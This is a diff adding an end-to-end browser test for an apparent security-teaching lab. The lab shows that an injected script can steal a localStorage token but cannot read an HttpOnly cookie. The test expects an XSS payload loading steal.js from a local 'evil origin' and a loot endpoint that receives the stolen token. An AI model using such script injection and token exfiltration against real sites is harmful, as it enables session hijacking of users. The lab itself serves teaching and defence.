@@ -1,0 +1,54 @@
+import { describe, expect, it } from 'vitest';
+import { openApp, useE2eApp } from '../support/e2e.ts';
+import { hasChromium } from '../support/requirements.ts';
+import { expectProved, expectSolved, isProved, openLab, runStep } from './lab-support.ts';
+
+const CHECKS = ['page-injected', 'token-replayed', 'cookie-invisible', 'loot-home'];
+
+describe.runIf(hasChromium())('lab 5, XSS theft (Chromium)', () => {
+  const e2e = useE2eApp('sqlite');
+
+  it('the injected script from the evil origin replays the localStorage token (200) but cannot read the HttpOnly cookie', async () => {
+    const { page, errors } = await openApp(e2e.browser, e2e.app.url, { viewport: { width: 1440, height: 1000 } });
+    await openLab(page, 'xss-theft');
+    for (const check of CHECKS) expect(await isProved(page, check)).toBe(false);
+
+    // Negative: injected before any login, the script finds no token and the browser has no session cookie to contrast.
+    await runStep(page, 'inject');
+    expect(await expectProved(page, 'page-injected')).toMatch(/GET \/lab\/xss → 200, name=<script src="http:\/\/localhost:\d+\/steal\.js">/);
+    await expect.poll(async () => (await e2e.app.server.url) && (await page.locator('#lab-attack-frame').count())).toBe(1);
+    await runStep(page, 'loot');
+    expect(await isProved(page, 'token-replayed')).toBe(false);
+    expect(await isProved(page, 'cookie-invisible')).toBe(false);
+    expect(await isProved(page, 'loot-home')).toBe(false);
+
+    await runStep(page, 'cookie-login');
+    await runStep(page, 'token-login');
+    await runStep(page, 'inject');
+    expect(await expectProved(page, 'token-replayed')).toMatch(/GET \/api\/v1\/token\/data → 200, x-stolen-by: evil-script, with the token issued by exchange #\d+/);
+    const contrast = await expectProved(page, 'cookie-invisible');
+    expect(contrast).toMatch(/Cookie has sl_session=…, while the script saw x-seen-cookie: "(?!.*sl_session)/);
+    // The frame really ran the script: it says what it read.
+    await expect.poll(() => page.frameLocator('#lab-attack-frame').locator('body').textContent()).toMatch(/The injected script read the token \(eyJ.*\), saw document.cookie = "[^"]*" and replayed the token: HTTP 200/);
+    const seen = (await page.frameLocator('#lab-attack-frame').locator('body').textContent()) ?? '';
+    expect(seen).not.toContain('sl_session');
+    await runStep(page, 'loot');
+    expect(await expectProved(page, 'loot-home')).toMatch(/GET \/api\/v1\/lab\/evil-origin\/loot → 200: token eyJ\S*…\S{8} \(the one of exchange #\d+\), cookie "/);
+    await page.getByTestId('lab-xss-theft').evaluate((lab) => {
+      lab.scrollTop = 0;
+    });
+    await expectSolved(page, 'xss-theft');
+
+    // The app's own page kept its strict policy; only the lab page was weakened.
+    const main = await fetch(e2e.app.server.url);
+    expect(main.headers.get('content-security-policy')).toContain("script-src 'self'");
+
+    await page.getByTestId('lab-reset').click();
+    await expect.poll(() => isProved(page, 'page-injected')).toBe(false);
+    expect(await page.locator('#lab-attack-frame').count()).toBe(0);
+    for (const check of CHECKS) expect(await isProved(page, check)).toBe(false);
+    expect(await page.evaluate(() => localStorage.getItem('sessionlab:access_token'))).toBeNull();
+    expect(errors).toEqual([]);
+    await page.context().close();
+  }, 60_000);
+});
